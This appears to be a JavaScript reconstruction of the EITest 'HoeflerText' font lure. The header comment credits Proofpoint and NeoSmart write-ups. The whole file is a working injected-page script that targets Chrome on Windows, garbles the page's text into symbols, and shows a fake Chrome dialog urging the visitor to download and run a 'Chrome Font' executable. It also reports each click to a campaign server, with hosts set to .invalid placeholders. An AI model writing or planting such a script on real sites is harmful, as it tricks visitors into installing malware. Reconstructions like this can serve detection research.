// hoeflertext, written from Proofpoint's "EITest Nabs Chrome Users with a 'Chrome Font'
// Social Engineering Scheme" (Kafeine, January 2017) and NeoSmart's write-up of the same
// lure: script injected into compromised sites that, for Chrome on Windows, turns the page's
// text into unreadable symbols and shows a Chrome-styled box saying "The 'HoeflerText' font
// wasn't found" with an "Update" button that downloads a "Chrome Font" executable (host and
// file .invalid here), reporting the click to the campaign server.
(function () {
  var ua = navigator.userAgent;
  if (!/Windows NT/.test(ua) || !/Chrome\/\d+/.test(ua) || /Edge|OPR|YaBrowser/.test(ua)) return;
  if (document.cookie.indexOf("hft=") > -1) return;
  var junk = ["&#65533;", "&#1026;", "&#1106;", "&#9632;", "&#9618;", "&#1046;", "&#1064;"];
  function garble(node) {
    if (node.nodeType === 3 && node.nodeValue.replace(/\s+/g, "").length) {
      var out = "";
      for (var i = 0; i < node.nodeValue.length; i++) {
        var ch = node.nodeValue.charAt(i);
        out += /\s/.test(ch) ? ch : junk[ch.charCodeAt(0) % junk.length];
      }
      var span = document.createElement("span");
      span.innerHTML = out;
      node.parentNode.replaceChild(span, node);
      return;
    }
    if (node.nodeType === 1 && !/SCRIPT|STYLE|NOSCRIPT/.test(node.tagName)) {
      var kids = Array.prototype.slice.call(node.childNodes);
      for (var k = 0; k < kids.length; k++) garble(kids[k]);
    }
  }
  function popup() {
    garble(document.body);
    var ver = (ua.match(/Chrome\/(\d+)/) || [0, "56"])[1];
    var file = "https://fontpack-update.invalid/Chrome%20Font_v" + ver + ".exe";
    var box = document.createElement("div");
    box.style.cssText = "position:fixed;top:30%;left:50%;margin-left:-260px;width:520px;z-index:2147483647;" +
      "background:#fff;border:1px solid #999;box-shadow:0 4px 24px rgba(0,0,0,.4);font:13px Arial;padding:18px";
    box.innerHTML = "<b style='font-size:18px;color:#d32'>The \"HoeflerText\" font wasn't found.</b>" +
      "<p>The web page you are trying to load is displayed incorrectly, as it uses the \"HoeflerText\" font. " +
      "To fix the error and display the text, you have to update the \"Chrome Font Pack\".</p>" +
      "<p>Manufacturer: <b>Google Chrome</b><br>Current version: <b>" + ver + "</b></p>" +
      "<a id='hft-upd' href='" + file + "' download style='float:right;background:#3a80f0;color:#fff;padding:8px 24px;text-decoration:none'>Update</a>" +
      "<p style='color:#777'>1. Click \"Update\". 2. Run the downloaded file to install the font pack.</p>";
    document.body.appendChild(box);
    document.getElementById("hft-upd").addEventListener("click", function () {
      document.cookie = "hft=1; path=/; max-age=" + 86400 * 30;
      new Image().src = "https://fontpack-update.invalid/stat?e=dl&v=" + ver + "&r=" + encodeURIComponent(location.host);
      setTimeout(function () { box.innerHTML = "<p style='font-size:15px'>Run <b>Chrome Font_v" + ver + ".exe</b> from the download bar below to finish.</p>"; }, 800);
    });
  }
  if (document.readyState === "complete") popup(); else window.addEventListener("load", popup);
})();
